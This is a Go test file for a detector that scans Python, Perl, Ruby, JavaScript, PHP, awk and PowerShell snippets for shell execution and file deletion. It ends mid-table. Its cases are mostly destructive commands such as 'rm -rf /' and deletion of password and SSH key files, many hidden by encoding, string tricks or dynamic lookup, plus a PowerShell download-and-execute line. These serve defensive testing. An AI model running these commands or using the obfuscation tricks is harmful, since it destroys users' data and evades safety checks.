package payload

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
)

// srcRender renders a scan as sorted lines: "$ LINE" for a shell line, "?"
// once if anything is dynamic, "rm TARGET" or "rm -r TARGET" for a
// deletion ("~" before a target that is an expression).
func srcRender(s Result) string {
	var lines []string
	for _, l := range s.Shell {
		lines = append(lines, "$ "+l)
	}
	if len(s.Dynamic) > 0 {
		lines = append(lines, "?")
	}
	for _, d := range s.Deletes {
		l := "rm "
		if d.Recursive {
			l += "-r "
		}
		if !d.Static {
			l += "~"
		}
		lines = append(lines, l+d.Target)
	}
	slices.Sort(lines)
	return strings.Join(lines, " | ")
}

type srcCase struct {
	lang Lang
	src  string
	want string // srcRender of the result, lines in any order, joined by " | "
}

func srcWant(w string) string {
	if w == "" {
		return ""
	}
	lines := strings.Split(w, " | ")
	slices.Sort(lines)
	return strings.Join(lines, " | ")
}

// Short names for the languages, for the tables.
const (
	srcPy   = LangPython
	srcPl   = LangPerl
	srcRb   = LangRuby
	srcJS   = LangNode
	srcPHP  = LangPHP
	srcAwk  = LangAwk
	srcPwsh = LangPowerShell
)

var srcCases = []srcCase{
	// Python: must find.
	{srcPy, `import os; os.system("rm -rf /")`, "$ rm -rf /"},
	{srcPy, `import os; os.popen('ls -l').read()`, "$ ls -l"},
	{srcPy, `import subprocess; subprocess.run("rm -rf ~", shell=True)`, "$ rm -rf ~"},
	{srcPy, `import subprocess; subprocess.run("git status")`, "$ git status"},
	{srcPy, `import subprocess; subprocess.run(["rm", "-rf", "/"])`, "$ rm -rf /"},
	{srcPy, `import subprocess as sp; sp.call(["rm", "-rf", "/tmp/my dir"])`, "$ rm -rf '/tmp/my dir'"},
	{srcPy, `import subprocess; subprocess.check_call(['rm','-r','x'])`, "$ rm -r x"},
	{srcPy, `import subprocess; subprocess.check_output("id", shell=True)`, "$ id"},
	{srcPy, `import subprocess; subprocess.Popen(["bash", "-c", "rm -rf /"])`, "$ bash -c 'rm -rf /'"},
	{srcPy, `import subprocess; print(subprocess.getoutput("whoami"))`, "$ whoami"},
	{srcPy, `import subprocess; subprocess.getstatusoutput("uname -a")`, "$ uname -a"},
	{srcPy, `import subprocess; subprocess.run(["rm -rf /", "x"], shell=True)`, "$ rm -rf /"},
	{srcPy, `import os; os.execv("/bin/rm", ["rm", "-rf", "/"])`, "$ /bin/rm -rf /"},
	{srcPy, `import os; os.execl("/bin/rm", "rm", "-rf", "/")`, "$ /bin/rm -rf /"},
	{srcPy, `import os; os.execvp("rm", ["rm", "-rf", "/"])`, "$ rm -rf /"},
	{srcPy, `import os; os.spawnlp(os.P_WAIT, "rm", "rm", "-rf", "/")`, "$ rm -rf /"},
	{srcPy, `import os; os.spawnv(os.P_WAIT, "/bin/rm", ["rm", "-rf", "/"])`, "$ /bin/rm -rf /"},
	{srcPy, `import pty; pty.spawn("/bin/bash")`, "$ /bin/bash"},
	{srcPy, `import pty; pty.spawn(["bash", "-c", "id"])`, "$ bash -c id"},
	{srcPy, `import commands; commands.getoutput("ls")`, "$ ls"},
	{srcPy, `__import__('os').system('rm -rf /')`, "$ rm -rf /"},
	{srcPy, `__import__("subprocess").call("reboot", shell=True)`, "$ reboot"},
	{srcPy, `import os as o; o.system("shutdown now")`, "$ shutdown now"},
	{srcPy, `from os import system as s; s("rm -rf /home")`, "$ rm -rf /home"},
	{srcPy, `from os import system; system("ls")`, "$ ls"},
	{srcPy, `from os import *; system("ls")`, "$ ls"},
	{srcPy, `from subprocess import run, PIPE; run(["ls", "-la"], stdout=PIPE)`, "$ ls -la"},
	{srcPy, `from subprocess import (check_output as co); co("date")`, "$ date"},
	{srcPy, `exec("import os; os.system('rm -rf /')")`, "$ rm -rf /"},
	{srcPy, `eval("__import__('os').system('id')")`, "$ id"},
	{srcPy, `import shutil; shutil.rmtree("/var/lib")`, "rm -r /var/lib"},
	{srcPy, `import shutil; shutil.rmtree(path)`, "rm -r ~path"},
	{srcPy, `import os; os.remove("/etc/passwd")`, "rm /etc/passwd"},
	{srcPy, `import pathlib; pathlib.Path("/etc/passwd").unlink()`, "rm /etc/passwd"},
	{srcPy, `from pathlib import Path; Path("/etc").joinpath("x", "y").unlink()`, "rm /etc/x/y"},
	{srcPy, `from pathlib import Path; (Path("/srv") / "/etc" / "passwd").unlink()`, "rm /etc/passwd"},
	{srcPy, `from pathlib import Path; Path("/usr/lib").rmdir()`, "rm /usr/lib"},
	{srcPy, `from pathlib import Path; p = Path("/etc/passwd"); p.unlink()`, "rm /etc/passwd"},
	{srcPy, `from pathlib import Path; p = Path.home() / ".ssh" / "id_rsa"; p.unlink(missing_ok=True)`, "rm ~/.ssh/id_rsa"},
	{srcPy, `from pathlib import Path; p = Path(name); p.unlink()`, ""},
	{srcPy, `import os; os.unlink('x'); os.rmdir('d'); os.removedirs('a/b')`, "rm x | rm d | rm a/b"},
	{srcPy, `import os; os.system(cmd)`, "?"},
	{srcPy, `import os, sys; os.system(sys.argv[1])`, "?"},
	{srcPy, `import os; os.system("rm -rf " + d)`, "?"},
	{srcPy, `import os; os.system(f"rm -rf {d}")`, "?"},
	{srcPy, `import subprocess; subprocess.run(["rm", "-rf", path])`, "?"},
	{srcPy, `import os; os.system("rm " + "-rf /")`, "$ rm -rf /"},
	{srcPy, `import os; os.system("rm " "-rf" " /")`, "$ rm -rf /"},
	{srcPy, `import os; c = "rm -rf /"; os.system(c)`, "$ rm -rf /"},
	{srcPy, "import os\ncmd = 'rm'\nos.system(cmd + ' -rf /')", "$ rm -rf /"},
	{srcPy, "import os\nd = '/'\nos.system(f'rm -rf {d}')", "$ rm -rf /"},
	{srcPy, `import os; os.system("rm -rf %s" % "/")`, "$ rm -rf /"},
	{srcPy, `import os; os.system("rm -rf {}".format("/"))`, "$ rm -rf /"},
	{srcPy, `import os; os.system(r"echo a\b")`, `$ echo a\b`},
	{srcPy, `import os; os.system('''rm -rf /''')`, "$ rm -rf /"},
	{srcPy, `import os; os.system("""ls""")`, "$ ls"},
	{srcPy, `import os; os.system("\x72m -rf /")`, "$ rm -rf /"},
	{srcPy, `import os; os.system("\u0072m -rf \057")`, "$ rm -rf /"},
	{srcPy, `import os; os.system("\N{LATIN SMALL LETTER R}m -rf /")`, "$ rm -rf /"},
	{srcPy, `import os; getattr(os, "system")("rm -rf /")`, "$ rm -rf /"},
	{srcPy, `import os; getattr(os, "sys" + "tem")("rm -rf /")`, "$ rm -rf /"},
	{srcPy, `import os; os . system ( "rm -rf /" )`, "$ rm -rf /"},
	{srcPy, "import os\nos.\\\nsystem('ls')", "$ ls"},
	{srcPy, `import os; os.__dict__["system"]("ls")`, "$ ls"},
	{srcPy, `import sys; sys.modules["os"].system("ls")`, "$ ls"},
	{srcPy, `import importlib; importlib.import_module("os").system("ls")`, "$ ls"},
	{srcPy, `import base64; exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInJtIC1yZiAvIik="))`, "$ rm -rf /"},
	{srcPy, `import base64,os; os.system(base64.b64decode("cm0gLXJmIC8=").decode())`, "$ rm -rf /"},
	{srcPy, `import os; os.system(bytes.fromhex("726d202d7266202f").decode())`, "$ rm -rf /"},
	{srcPy, `import os,codecs; os.system(codecs.decode("ez -es /", "rot13"))`, "$ rm -rf /"},
	{srcPy, `import os; os.system("/ fr- mr"[::-1])`, "$ rm -rf /"},
	{srcPy, `import os; os.system("".join(["r", "m", " -rf /"]))`, "$ rm -rf /"},
	{srcPy, `import os; os.system("".join(map(chr, [114, 109])))`, "$ rm"},
	{srcPy, `import os; os.system(chr(114) + chr(109) + " -rf /")`, "$ rm -rf /"},
	{srcPy, `exec(compile("import os; os.system('ls')", "x", "exec"))`, "$ ls"},
	{srcPy, `exec(code)`, "?"},
	{srcPy, `import os; list(map(os.system, cmds))`, "?"},
	{srcPy, `s = __import__("os").system; s("id")`, "$ id"},
	{srcPy, `import ctypes; ctypes.CDLL(None).system(b"rm -rf /")`, "$ rm -rf /"},
	{srcPy, `ｉｍｐｏｒｔ ｏｓ; ｏｓ.ｓｙｓｔｅｍ("ls")`, "$ ls"},
	{srcPy, `import os; os.system("ls") # os.system("rm -rf /")`, "$ ls"},
	{srcPy, `import asyncio; asyncio.create_subprocess_shell("ls")`, "$ ls"},
	{srcPy, `import subprocess; subprocess.run("bash", input="rm -rf /", text=True)`, "$ bash | $ rm -rf /"},
	{srcPy, "import os\nif x:\n    c = 'ls'\nelse:\n    c = 'rm -rf /'\nos.system(c)", "$ ls | $ rm -rf /"},
	{srcPy, `exec "import os; os.system('ls')"`, "$ ls"},
	{srcPy, `o = __import__; o("os").system("id")`, "$ id"},
	{srcPy, `__builtins__.__dict__["exec"]("import os; os.system('id')")`, "$ id"},
	{srcPy, `globals()["os"].system("id")`, "$ id"},
	{srcPy, `import os; os.popen("sh", "w").write(cmd)`, "$ sh | ?"},
	{srcPy, `import subprocess; subprocess.run(args=["ls", "-l"])`, "$ ls -l"},
	{srcPy, `import os; (lambda: os.system("id"))()`, "$ id"},
	{srcPy, `print(eval("1+2"))`, ""},
	{srcPy, `import os; os.system.__call__("id")`, "$ id"},
	{srcPy, `import os; os.__dict__.get("system")("id")`, "$ id"},
	{srcPy, `import os; vars(os).get("sys" + "tem")("id")`, "$ id"},
	{srcPy, `d = {}; print(d.get("system"))`, ""},
	{srcPy, "import os\nfor c in ['ls', 'rm -rf /']:\n    os.system(c)", "$ ls | $ rm -rf /"},
	{srcPy, "import os, sys\nfor c in sys.argv:\n    os.system(c)", "?"},
	{srcJS, "const {execSync} = require('child_process'); for (const c of ['ls', 'id']) execSync(c)", "$ ls | $ id"},
	{srcPl, `for my $c ("ls", "id") { system($c) }`, "$ ls | $ id"},
	{srcPl, `foreach my $f (@ARGV) { unlink $f }`, "rm ~$f"},
	{srcRb, "for c in ['ls', 'id'] do system(c) end", "$ ls | $ id"},
	{srcPy, `import os; os.__getattribute__("system")("id")`, "$ id"},
	{srcPy, `import os; getattr(os, name)("id")`, "?"},
	{srcPy, `import json; getattr(json, name)(x)`, ""},
	{srcPy, `import os; os.system(command="id")`, "$ id"},
	{srcPy, `import shutil; shutil.rmtree(path="/srv", ignore_errors=True)`, "rm -r /srv"},
	{srcPy, `import os; os.system(**kw)`, "?"},
	{srcPy, `import sys; exec(sys.stdin.read())`, "?"},
	{srcPy, `import sys; print(sys.version)`, ""},
	{srcPy, `import setuptools; setuptools.setup()`, ""},
	{srcPy, "import sys\nfor line in sys.stdin:\n    print(line.strip().upper())", ""},
	// Python: must not find.
	{srcPy, `print('hello')`, ""},
	{srcPy, `import json,sys; print(json.load(sys.stdin)["a"])`, ""},
	{srcPy, `# os.system("rm -rf /")`, ""},
	{srcPy, `print("os.system('rm -rf /')")`, ""},
	{srcPy, `x = "subprocess.run(['rm', '-rf', '/'])"`, ""},
	{srcPy, `"""os.system('rm -rf /')"""`, ""},
	{srcPy, `import platform; print(platform.system())`, ""},
	{srcPy, `import os; print(os.path.join("a", "b"), os.getcwd())`, ""},
	{srcPy, `import re; re.compile("x").sub("", "y")`, ""},
	{srcPy, `import sys; sys.exit(0)`, ""},
	{srcPy, `import http.server; http.server.test()`, ""},
	{srcPy, `d = {"system": 1}; print(d["system"])`, ""},
	{srcPy, `import os; print(os.environ.get("HOME"))`, ""},
	{srcPy, `import yaml, sys; print(yaml.safe_load(sys.stdin))`, ""},

	// Perl.
	{srcPl, `system("rm -rf /")`, "$ rm -rf /"},
	{srcPl, `system "rm -rf /"`, "$ rm -rf /"},
	{srcPl, `system("rm", "-rf", "/")`, "$ rm -rf /"},
	{srcPl, `system 'rm', '-rf', '/tmp/a b'`, "$ rm -rf '/tmp/a b'"},
	{srcPl, `exec "reboot"`, "$ reboot"},
	{srcPl, "print `id`", "$ id"},
	{srcPl, `my $x = qx{ls -l}; print $x`, "$ ls -l"},
	{srcPl, `my $x = qx(whoami)`, "$ whoami"},
	{srcPl, `my $x = qx!uname -a!`, "$ uname -a"},
	{srcPl, `my $x = qx'date'`, "$ date"},
	{srcPl, `open(F, "ls |"); print <F>`, "$ ls"},
	{srcPl, `open(F, "| mail root")`, "$ mail root"},
	{srcPl, `open(my $f, "-|", "ls", "-l")`, "$ ls -l"},
	{srcPl, `open(my $f, "-|", "ls -l /")`, "$ ls -l /"},
	{srcPl, `open(my $fh, "|-", "sh")`, "$ sh | ?"},
	{srcPl, `use File::Path; File::Path::rmtree("/srv")`, "rm -r /srv"},
	{srcPl, `use File::Path qw(remove_tree); remove_tree("/srv", {verbose => 1})`, "rm -r /srv"},
	{srcPl, `unlink "/etc/hosts"`, "rm /etc/hosts"},
	{srcPl, `unlink glob "*.o"`, "rm ~glob \"*.o\""},
	{srcPl, `system($ARGV[0])`, "?"},
	{srcPl, `system("rm -rf $dir")`, "?"},
	{srcPl, `my $d = "/"; system("rm -rf $d")`, "$ rm -rf /"},
	{srcPl, `system("rm " . "-rf /")`, "$ rm -rf /"},
	{srcPl, `my @c = ("rm", "-rf", "/"); system(@c)`, "$ rm -rf /"},
	{srcPl, `system(qw(rm -rf /))`, "$ rm -rf /"},
	{srcPl, `system("\x72m -rf /")`, "$ rm -rf /"},
	{srcPl, `CORE::system("ls")`, "$ ls"},
	{srcPl, `eval "system('ls')"`, "$ ls"},
	{srcPl, `use MIME::Base64; system(decode_base64("cm0gLXJmIC8="))`, "$ rm -rf /"},
	{srcPl, `$_ = "x"; s/x/system("ls")/e`, "$ ls"},
	{srcPl, `print "done" if system("make") == 0`, "$ make"},
	{srcPl, `system("ls") or die "failed: $!"`, "$ ls"},
	{srcPl, `readpipe("id")`, "$ id"},
	{srcPl, "print 1;\n=pod\nsystem('rm -rf /')\n=cut\nprint 2", ""},
	{srcPl, `print "hello\n"`, ""},
	{srcPl, "my $c = 'ls'; print `$c`", "$ ls"},
	{srcPl, "print `$cmd`", "?"},
	{srcPl, `print if m/regex1/ and m/regex2/i`, ""},
	{srcPl, `print $1 if /(0x[\da-f]+)/ig;`, ""},
	{srcPl, `my %h = (exec => 1); print $h{exec}`, ""},
	{srcPl, `print join "\n", @INC`, ""},
	{srcPl, `# system("rm -rf /")`, ""},
	{srcPl, `print 'system("rm -rf /")'`, ""},
	{srcPl, `my $n = $#ARGV; print $n`, ""},
	{srcPl, `while (<>) { s/foo/bar/g; print }`, ""},
	{srcPl, `print join(",", map { $_ * 2 } 1..3)`, ""},
	{srcPl, `@a = split /#/, $x; print @a`, ""},
	{srcPl, `open(F, "<", "/etc/passwd"); print <F>`, ""},
	{srcPl, `my %h = (system => 1); print $h{system}`, ""},
	{srcPl, "print <<EOF;\nsystem('rm -rf /')\nEOF\n", ""},

	// Ruby.
	{srcRb, `system("rm -rf /")`, "$ rm -rf /"},
	{srcRb, `system "rm", "-rf", "/"`, "$ rm -rf /"},
	{srcRb, `exec("reboot")`, "$ reboot"},
	{srcRb, `pid = spawn("sleep 1")`, "$ sleep 1"},
	{srcRb, "puts `id`", "$ id"},
	{srcRb, `puts %x(ls -l)`, "$ ls -l"},
	{srcRb, `puts %x{whoami}`, "$ whoami"},
	{srcRb, `require "open3"; out, st = Open3.capture2("ls")`, "$ ls"},
	{srcRb, `require "open3"; Open3.popen3("rm", "-rf", "/") { |i, o, e, t| }`, "$ rm -rf /"},
	{srcRb, `IO.popen("ls").read`, "$ ls"},
	{srcRb, `IO.popen(["rm", "-rf", "/"])`, "$ rm -rf /"},
	{srcRb, `Kernel.system("ls")`, "$ ls"},
	{srcRb, `Kernel.send(:system, "rm -rf /")`, "$ rm -rf /"},
	{srcRb, `send("system", "id")`, "$ id"},
	{srcRb, `method(:system).call("id")`, "$ id"},
	{srcRb, `require "fileutils"; FileUtils.rm_rf("/var")`, "rm -r /var"},
	{srcRb, `FileUtils.rm_r "build"`, "rm -r build"},
	{srcRb, `FileUtils.remove_dir("/opt/x")`, "rm -r /opt/x"},
	{srcRb, `File.delete("/etc/hosts")`, "rm /etc/hosts"},
	{srcRb, `system("rm -rf #{dir}")`, "?"},
	{srcRb, `d = "/"; system("rm -rf #{d}")`, "$ rm -rf /"},
	{srcRb, `system({"A" => "1"}, "env")`, "$ env"},
	{srcRb, `system("ls", exception: true)`, "$ ls"},
	{srcRb, `open("|date") { |f| puts f.read }`, "$ date"},
	{srcRb, `eval("system('ls')")`, "$ ls"},
	{srcRb, `require "base64"; system(Base64.decode64("cm0gLXJmIC8="))`, "$ rm -rf /"},
	{srcRb, `system("/ fr- mr".reverse)`, "$ rm -rf /"},
	{srcRb, `puts "#{system('ls')}"`, "$ ls"},
	{srcRb, `puts "hello"`, ""},
	{srcRb, "Kernel.send(:`, \"id\")", "$ id"},
	{srcRb, `obj.public_send(:system, "id")`, "$ id"},
	{srcRb, `IO.send(:popen, "id")`, "$ id"},
	{srcRb, `Open3.public_send(:capture2, "id")`, "$ id"},
	{srcRb, `puts RUBY_VERSION`, ""},
	{srcRb, `require "json"; puts JSON.pretty_generate(JSON.parse(STDIN.read))`, ""},
	{srcRb, `# system("rm -rf /")`, ""},
	{srcRb, `puts 'system("rm -rf /")'`, ""},
	{srcRb, `x = {system: 1}; puts x[:system]`, ""},
	{srcRb, `puts [1,2,3].map { |x| x * 2 }.inspect`, ""},
	{srcRb, "=begin\nsystem('rm -rf /')\n=end\nputs 1", ""},
	{srcRb, `File.open("x") { |f| puts f.read }`, ""},
	{srcRb, `require "json"; puts JSON.parse(STDIN.read)["a"]`, ""},

	// JavaScript.
	{srcJS, `require('child_process').execSync('rm -rf /')`, "$ rm -rf /"},
	{srcJS, `const cp = require("child_process"); cp.exec("ls -l")`, "$ ls -l"},
	{srcJS, `const {execSync} = require("child_process"); execSync("id")`, "$ id"},
	{srcJS, `const {execSync: run} = require("node:child_process"); run("id")`, "$ id"},
	{srcJS, `const {spawn} = require("child_process"); spawn("rm", ["-rf", "/"])`, "$ rm -rf /"},
	{srcJS, `require("child_process").spawnSync("ls", ["-la"], {stdio: "inherit"})`, "$ ls -la"},
	{srcJS, `require("child_process").execFileSync("/bin/rm", ["-rf", "/"])`, "$ /bin/rm -rf /"},
	{srcJS, `require("child_process").execFile("ls")`, "$ ls"},
	{srcJS, `import {exec} from "child_process"; exec("whoami")`, "$ whoami"},
	{srcJS, `import * as cp from "node:child_process"; cp.execSync("date")`, "$ date"},
	{srcJS, `require("child_process").exec(cmd)`, "?"},
	{srcJS, "require('child_process').execSync(`rm -rf ${dir}`)", "?"},
	{srcJS, "require('child_process').execSync(`ls -l`)", "$ ls -l"},
	{srcJS, "const d = '/'; require('child_process').execSync(`rm -rf ${d}`)", "$ rm -rf /"},
	{srcJS, `require("child_process").execSync("rm " + "-rf /")`, "$ rm -rf /"},
	{srcJS, `require("child_" + "process").execSync("id")`, "$ id"},
	{srcJS, `require("child_process")["execSync"]("id")`, "$ id"},
	{srcJS, `require("child_process").execSync(Buffer.from("cm0gLXJmIC8=", "base64").toString())`, "$ rm -rf /"},
	{srcJS, `require("child_process").execSync(atob("cm0gLXJmIC8="))`, "$ rm -rf /"},
	{srcJS, `require("child_process").execSync(String.fromCharCode(108, 115))`, "$ ls"},
	{srcJS, `require("child_process").execSync("/ fr- mr".split("").reverse().join(""))`, "$ rm -rf /"},
	{srcJS, `const fs = require("fs"); fs.rmSync("/var/x", {recursive: true, force: true})`, "rm -r /var/x"},
	{srcJS, `require("fs").rmSync("a.txt")`, "rm a.txt"},
	{srcJS, `require("fs").rmdirSync("/srv", {recursive: true})`, "rm -r /srv"},
	{srcJS, `fs.rm(dir, {recursive: true}, () => {})`, "rm -r ~dir"},
	{srcJS, `fs.unlinkSync("/etc/passwd")`, "rm /etc/passwd"},
	{srcJS, `eval("require('child_process').execSync('ls')")`, "$ ls"},
	{srcJS, `new Function("require('child_process').execSync('ls')")()`, "$ ls"},
	{srcJS, `process.binding("spawn_sync").spawn(opts)`, "?"},
	{srcJS, "`${require('child_process').execSync('id')}`", "$ id"},
	{srcJS, `\u0065val("require('child_process').execSync('ls')")`, "$ ls"},
	{srcJS, `Bun.spawn(["rm", "-rf", "/"])`, "$ rm -rf /"},
	{srcJS, `new Deno.Command("rm", {args: ["-rf", "/"]}).outputSync()`, "$ rm -rf /"},
	{srcJS, `Deno.removeSync("/x", {recursive: true})`, "rm -r /x"},
	{srcJS, `require("fs-extra").removeSync("/opt")`, "rm -r /opt"},
	{srcJS, `const rimraf = require("rimraf"); rimraf.sync("/srv")`, "rm -r /srv"},
	{srcJS, `require("fs/promises").rm("/var", {recursive: true})`, "rm -r /var"},
	{srcJS, `console.log(1)`, ""},
	{srcJS, `[].constructor.constructor("return process")().mainModule.require("child_process").execSync("id")`, "$ id"},
	{srcJS, `global.process.mainModule.require("child_process").exec("id")`, "$ id"},
	{srcJS, `["ls"].forEach(require("child_process").execSync)`, "?"},
	{srcJS, `console.log(process.version)`, ""},
	{srcJS, `require("child_process").execSync.call(null, "id")`, "$ id"},
	{srcJS, `const cp = require("child_process"); cp.spawnSync.apply(cp, ["rm", ["-rf", "/"]])`, "$ rm -rf /"},
	{srcJS, `require("child_process").execSync.apply(null, args)`, "?"},
	{srcJS, `global["ev" + "al"]("require('child_process').execSync('id')")`, "$ id"},
	{srcJS, `process.mainModule.constructor._load("child_process").execSync("id")`, "$ id"},
	{srcJS, "Bun.$`rm -rf /`", "$ rm -rf /"},
	{srcJS, "await $`ls ${dir}`", "?"},
	{srcJS, `console.log(require("./package.json").version)`, ""},
	{srcJS, `require("fs").writeFileSync("x", "y")`, ""},
	{srcJS, `// require("child_process").execSync("rm -rf /")`, ""},
	{srcJS, `/* execSync("rm -rf /") */ console.log(2)`, ""},
	{srcJS, `console.log("require('child_process').execSync('rm -rf /')")`, ""},
	{srcJS, `const m = /a/.exec("abc"); console.log(m)`, ""},
	{srcJS, `const cp = require("child_process"); const m = /a/.exec(s); const r = re.exec(s); cp.execSync("id")`, "$ id"},
	{srcJS, `import("child_process").then(child => child.exec("id"))`, "$ id"},
	{srcJS, `console.log(JSON.parse(require("fs").readFileSync(0)).a)`, ""},
	{srcJS, `setTimeout(() => console.log(1), 10)`, ""},
	{srcJS, `const x = 10 / 2 / 5; console.log(x)`, ""},
	{srcJS, `x / 2; require("child_process").execSync("rm -rf /"); z = 1 / 3`, "$ rm -rf /"},
	{srcJS, "if (1) /'/.test(\"\"); require(\"child_process\").execSync(\"rm -rf /\") //'", "$ rm -rf /"},
	{srcJS, "function f() {}\n/'/.test(\"\"); require(\"child_process\").execSync(\"id\") //'", "$ id"},
	{srcJS, `const r = (a) / 2; require("child_process").execSync("id"); // / 1`, "$ id"},
	{srcPl, `my $y = $h{a} / 2; system("id"); my $z = 1 / 3;`, "$ id"},
	{srcPl, `if ($x) { print "a" } /'/ and system("id"); # '`, "$ id"},
	{srcRb, `y = x / 2; system("id"); z = 1 / 3`, "$ id"},
	{srcAwk, `{ x = $1 / 2; system("id"); y = 1 / 3 }`, "$ id"},

	// PHP.
	{srcPHP, `system("rm -rf /");`, "$ rm -rf /"},
	{srcPHP, `echo shell_exec("ls -l");`, "$ ls -l"},
	{srcPHP, `exec("whoami", $out);`, "$ whoami"},
	{srcPHP, `passthru("id");`, "$ id"},
	{srcPHP, `$h = popen("ls", "r");`, "$ ls"},
	{srcPHP, `proc_open("date", [], $pipes);`, "$ date"},
	{srcPHP, `proc_open(["rm", "-rf", "/"], [], $p);`, "$ rm -rf /"},
	{srcPHP, "echo `id`;", "$ id"},
	{srcPHP, `SYSTEM("ls");`, "$ ls"},
	{srcPHP, `\system("ls");`, "$ ls"},
	{srcPHP, `system("rm -rf $dir");`, "?"},
	{srcPHP, `$d = "/"; system("rm -rf $d");`, "$ rm -rf /"},
	{srcPHP, `system("rm " . "-rf /");`, "$ rm -rf /"},
	{srcPHP, `system(base64_decode("cm0gLXJmIC8="));`, "$ rm -rf /"},
	{srcPHP, `$f = "system"; $f("id");`, "$ id"},
	{srcPHP, `("sys" . "tem")("id");`, "$ id"},
	{srcPHP, `call_user_func("system", "id");`, "$ id"},
	{srcPHP, `call_user_func_array("system", ["id"]);`, "$ id"},
	{srcPHP, `eval('system("ls");');`, "$ ls"},
	{srcPHP, `unlink("/etc/passwd");`, "rm /etc/passwd"},
	{srcPHP, `pcntl_exec("/bin/rm", ["-rf", "/"]);`, "$ /bin/rm -rf /"},
	{srcPHP, `echo "hello";`, ""},
	{srcPHP, `// system("rm -rf /");`, ""},
	{srcPHP, `# system("rm -rf /");`, ""},
	{srcPHP, `echo 'system("rm -rf /")';`, ""},
	{srcPHP, `echo json_encode(["a" => 1]);`, ""},
	{srcPHP, `$x->system("a");`, ""},
	{srcPHP, `array_map("system", $cmds);`, "?"},
	{srcPHP, `if (function_exists("exec")) { echo 1; }`, ""},
	{srcPHP, `$a = "sys"; $b = "tem"; ($a . $b)("id");`, "$ id"},
	{srcPHP, "echo PHP_VERSION;", ""},
	{srcPHP, `copy("https://getcomposer.org/installer", "composer-setup.php");`, ""},

	// awk.
	{srcAwk, `BEGIN { system("rm -rf /") }`, "$ rm -rf /"},
	{srcAwk, `{ system("echo " $1) }`, "?"},
	{srcAwk, `BEGIN { "date" | getline d; print d }`, "$ date"},
	{srcAwk, `BEGIN { while (("ls -l" | getline line) > 0) print line }`, "$ ls -l"},
	{srcAwk, `{ print $0 | "sort -u" }`, "$ sort -u"},
	{srcAwk, `BEGIN { print "rm -rf /" | "sh" }`, "$ rm -rf / | $ sh"},
	{srcAwk, `{ print | "sh" }`, "$ sh | ?"},
	{srcAwk, `BEGIN { c = "rm -rf /"; system(c) }`, "$ rm -rf /"},
	{srcAwk, `BEGIN { system("rm " "-rf /") }`, "$ rm -rf /"},
	{srcAwk, `{ print $1 }`, ""},
	{srcAwk, `/system/ { print "system(\"x\")" }`, ""},
	{srcAwk, `{ n += $2 } END { print n / NR }`, ""},
	{srcAwk, `# system("rm -rf /")`, ""},

	// PowerShell.
	{srcPwsh, `Invoke-Expression "rm -rf /"`, "$ rm -rf /"},
	{srcPwsh, `iex 'ls -l'`, "$ ls -l"},
	{srcPwsh, `IEX("whoami")`, "$ whoami"},
	{srcPwsh, `Start-Process cmd -ArgumentList "/c del /s /q C:\"`, `$ cmd /c del /s /q C:\`},
	{srcPwsh, `Remove-Item -Recurse -Force C:\Windows`, `rm -r C:\Windows`},
	{srcPwsh, `Remove-Item C:\x.txt`, `rm C:\x.txt`},
	{srcPwsh, `rm -r -fo C:\Users`, `$ rm -r -fo 'C:\Users'`},
	{srcPwsh, `ri -r C:\Users`, `rm -r C:\Users`},
	{srcPwsh, `del -Path:C:\x -Force`, `rm C:\x`},
	{srcPwsh, `cmd /c "rd /s /q C:\"`, `$ cmd /c 'rd /s /q C:\'`},
	{srcPwsh, `git status; Get-ChildItem`, "$ git status"},
	{srcPwsh, `Get-ChildItem | Where-Object { $_.Length -gt 1 }`, ""},
	{srcPwsh, `Write-Host "rm -rf /"`, ""},
	{srcPwsh, `# iex "rm -rf /"`, ""},
	{srcPwsh, `$c = "rm -rf /"; iex $c`, "$ rm -rf /"},
	{srcPwsh, `iex $env:X`, "?"},
	{srcPwsh, `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("cm0gLXJmIC8=")))`, "$ rm -rf /"},
	{srcPwsh, `powershell -EncodedCommand cgBtACAALQByAGYAIAAvAA==`, "$ powershell -EncodedCommand 'cgBtACAALQByAGYAIAAvAA==' | $ rm -rf /"},
	{srcPwsh, `[System.Diagnostics.Process]::Start("cmd", "/c whoami")`, "$ cmd /c whoami"},
	{srcPwsh, `[IO.Directory]::Delete("C:\data", $true)`, `rm -r C:\data`},
	{srcPwsh, `iex “rm -rf /”`, "$ rm -rf /"},
	{srcPwsh, `"rm -rf /" | iex`, "$ rm -rf /"},
	{srcPwsh, `Get-Content x.ps1 | iex`, "?"},
	{srcPwsh, `& ("i" + "ex") "id"`, "$ id"},
	{srcPwsh, `iex (New-Object Net.WebClient).DownloadString("http://x")`, "?"},
	{srcPwsh, `Start-Process -FilePath rm -ArgumentList "-rf","/"`, "$ rm -rf /"},
	{srcPwsh, `Remove-Item -Path /etc -Recurse`, "rm -r /etc"},
	{srcPwsh, `Get-Process | Sort-Object CPU | Select-Object -First 5`, ""},
	{srcPwsh, `$PSVersionTable.PSVersion`, ""},
	{srcPwsh, `. ("ie" + "x") "id"`, "$ id"},
	{srcPwsh, `[ScriptBlock]::Create("id").Invoke()`, "$ id"},
	{srcPwsh, `$ExecutionContext.InvokeCommand.InvokeScript("id")`, "$ id"},
	{srcPwsh, `. ./profile.ps1`, "$ ./profile.ps1"},
	{srcPwsh, `Set-Alias x Invoke-Expression; x "id"`, "$ id"},
	{srcPwsh, `sal -Name run -Value iex; run 'id'`, "$ id"},
	{srcPwsh, `&'iex' 'id'`, "$ id"},
	{srcPwsh, `$f = 'iex'; & $f 'id'`, "$ id"},
	{srcPwsh, `&(gcm i*x) 'id'`, "?"},
	{srcPwsh, `InVoKe-ExPrEsSiOn 'id'`, "$ id"},
	// Heredocs, multi-line code and more shapes.
	{srcPl, "print <<\"E\";\n@{[ system('id') ]}\nE\n", "$ id"},
	{srcRb, "x = <<~EOS\n  #{`id`}\nEOS\n", "$ id"},
	{srcRb, "system <<~EOS\n  ls -l\nEOS\n", "$ ls -l\n"},
	{srcRb, "x = <<~`CMD`\n  id\nCMD\n", "$ id\n"},
	{srcPHP, "$x = <<<EOT\nrm -rf /\nEOT;\nsystem($x);", "$ rm -rf /"},
	{srcPHP, "$x = <<<'EOT'\nrm -rf $y\nEOT;\nsystem($x);", "$ rm -rf $y"},
	{srcPy, "import os\ndef f(c):\n    os.system(c)\nf('ls')", "$ ls"},
	{srcPy, "import os\ndef f(c):\n    os.system(c)\nf('ls')\nf(input())", "$ ls | ?"},
	{srcPy, "import os\ndef f(c):\n    os.system(c)", "?"},
